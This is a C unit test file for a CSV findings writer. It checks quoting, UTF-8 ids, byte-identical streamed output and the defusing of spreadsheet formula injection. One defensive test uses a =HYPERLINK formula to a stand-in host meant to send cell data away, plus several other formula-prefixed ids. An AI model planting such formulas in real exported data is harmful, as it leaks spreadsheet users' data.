/*
 * Findings as CSV (report/findings_out.h), line by line: the agreed columns, row numbers of
 * every width, a child id that must be quoted and one in UTF-8 that need not be, a finding
 * about the return as a whole (no row, no child), fields from the columns at fault, child
 * ids that start like a spreadsheet formula (defused with a '). Then a
 * report long enough for the two-thread writer, streamed to a file, must be byte for byte
 * the report built in memory by one thread.
 */
#include "test.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "domain/ret/rule.h"
#include "domain/ret/table.h"
#include "report/findings_out.h"

enum { C_ID, C_DATE, C_NOTE };

static const struct rcol_def cols[] = {
    {"ID", RCOL_TEXT, 0, 0},
    {"DATE", RCOL_DATE, 0, 0},
    {"NOTE", RCOL_TEXT, 0, 0},
};
static const struct rtable_def tables[] = {{"Things", cols, 3, C_ID}};
static const struct ret_kind kind = {"toy", "toy return", tables, 1, NULL, 0, NULL, NULL};

static const struct rule r1 = {"101", RULE_ERROR, 0, 1, 0, "DATE", "date, \"bad\"", NULL};
static const struct rule r2 = {"2A", RULE_QUERY, 0, 1, 0, "ID", "plain message", NULL};

static void make(struct ret *r, int nrows)
{
    ret_init(r, &kind);
    char id[32];
    for (int i = 0; i < nrows; i++) {
        int32_t row = ret_add_row(r, 0, i + 2);
        snprintf(id, sizeof id, "C%d", i / 3);
        const char *s = i == 7 ? "A,\"7\"" : i == 8 ? "Zoë" : id;
        ret_set(r, 0, row, C_ID, s, strlen(s));
    }
}

static void add(struct findings *f, const struct rule *rule, int32_t row, uint64_t cols_at)
{
    if (f->n == f->cap) {
        f->cap = f->cap ? 2 * f->cap : 64;
        f->v = realloc(f->v, f->cap * sizeof *f->v);
        assert_non_null(f->v);
    }
    f->v[f->n++] = (struct finding){rule, row, 0, cols_at};
}

static char *csv_of(const struct ret *r, const struct findings *f, FILE *flush, size_t *len)
{
    struct str out = STR_INIT;
    struct findings_doc d = {.r = r, .f = f, .source = "toy", .flush = flush};
    findings_write(&out, FINDINGS_CSV, &d);
    return str_detach(&out, len);
}

static void lines_as_agreed(void **state)
{
    (void)state;
    struct ret r;
    make(&r, 200000);
    struct findings f;
    findings_init(&f);
    add(&f, &r1, -1, 0);
    static const int32_t rows[] = {0, 7, 8, 9, 10, 99, 100, 101, 999, 1000, 123456, 199999};
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        add(&f, &r1, rows[i], UINT64_C(1) << C_DATE);
    add(&f, &r2, 5, (UINT64_C(1) << C_ID) | (UINT64_C(1) << C_NOTE));
    size_t len;
    char *csv = csv_of(&r, &f, NULL, &len);
    const char *want = "rule,severity,table,row,child,fields,message\n"
                       "101,error,Things,,,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,0,C0,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,7,\"A,\"\"7\"\"\",DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,8,Zoë,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,9,C3,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,10,C3,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,99,C33,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,100,C33,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,101,C33,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,999,C333,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,1000,C333,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,123456,C41152,DATE,\"date, \"\"bad\"\"\"\n"
                       "101,error,Things,199999,C66666,DATE,\"date, \"\"bad\"\"\"\n"
                       "2A,query,Things,5,C1,ID;NOTE,plain message\n";
    assert_string_equal(csv, want);
    assert_int_equal(len, strlen(want));
    free(csv);
    findings_release(&f);
    ret_release(&r);
}

/* A child id from the file that starts like a formula is written with a ' before it, so a
 * spreadsheet shows it as text instead of running it (=HYPERLINK could send the reader's
 * data away); one that merely holds = later is left alone. */
static void formulas_are_defused(void **state)
{
    (void)state;
    static const char *ids[] = {"=HYPERLINK(\"http://x.test/?\"&A1,\"open\")",
                                "+1",
                                "-2+3",
                                "@SUM(A1)",
                                "\t=1",
                                "\r=1",
                                "A=1"};
    enum { N = sizeof ids / sizeof ids[0] };
    struct ret r;
    ret_init(&r, &kind);
    struct findings f;
    findings_init(&f);
    for (int i = 0; i < N; i++) {
        int32_t row = ret_add_row(&r, 0, i + 2);
        ret_set(&r, 0, row, C_ID, ids[i], strlen(ids[i]));
        add(&f, &r2, row, UINT64_C(1) << C_ID);
    }
    size_t len;
    char *csv = csv_of(&r, &f, NULL, &len);
    const char *want = "rule,severity,table,row,child,fields,message\n"
                       "2A,query,Things,0,\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\","
                       "ID,plain message\n"
                       "2A,query,Things,1,'+1,ID,plain message\n"
                       "2A,query,Things,2,'-2+3,ID,plain message\n"
                       "2A,query,Things,3,'@SUM(A1),ID,plain message\n"
                       "2A,query,Things,4,'\t=1,ID,plain message\n"
                       "2A,query,Things,5,\"'\r=1\",ID,plain message\n"
                       "2A,query,Things,6,A=1,ID,plain message\n";
    assert_string_equal(csv, want);
    free(csv);
    findings_release(&f);
    ret_release(&r);
}

/* 3 findings per row over 60,000 rows: 180,000 findings, past the two-thread writer's floor */
static void a_long_report_to_a_file_is_the_same_bytes(void **state)
{
    (void)state;
    struct ret r;
    make(&r, 60000);
    struct findings f;
    findings_init(&f);
    for (int32_t i = 0; i < 60000; i++) {
        add(&f, &r1, i, UINT64_C(1) << C_DATE);
        add(&f, &r1, i, (UINT64_C(1) << C_DATE) | (UINT64_C(1) << C_NOTE));
    }
    for (int32_t i = 0; i < 60000; i++)
        add(&f, &r2, i, UINT64_C(1) << C_ID);
    size_t mem_len;
    char *mem = csv_of(&r, &f, NULL, &mem_len);
    FILE *tmp = tmpfile();
    assert_non_null(tmp);
    size_t rest_len;
    char *rest = csv_of(&r, &f, tmp, &rest_len); /* what the caller writes at the end */
    assert_int_equal(fwrite(rest, 1, rest_len, tmp), rest_len);
    free(rest);
    assert_int_equal(fflush(tmp), 0);
    long size = ftell(tmp);
    assert_int_equal((size_t)size, mem_len);
    char *file = malloc(mem_len + 1);
    assert_non_null(file);
    rewind(tmp);
    assert_int_equal(fread(file, 1, mem_len, tmp), mem_len);
    assert_memory_equal(file, mem, mem_len);
    fclose(tmp);
    free(file);
    free(mem);
    findings_release(&f);
    ret_release(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lines_as_agreed),
        cmocka_unit_test(formulas_are_defused),
        cmocka_unit_test(a_long_report_to_a_file_is_the_same_bytes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
